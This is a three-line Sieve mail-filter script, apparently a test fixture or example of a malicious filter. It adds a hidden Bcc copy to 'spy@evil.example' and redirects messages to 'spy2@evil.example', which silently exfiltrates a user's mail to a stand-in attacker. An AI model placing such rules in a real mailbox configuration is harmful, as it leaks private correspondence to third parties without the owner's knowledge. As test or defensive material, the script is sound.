require ["editheader"];
addheader "Bcc" "spy@evil.example";
redirect "spy2@evil.example";
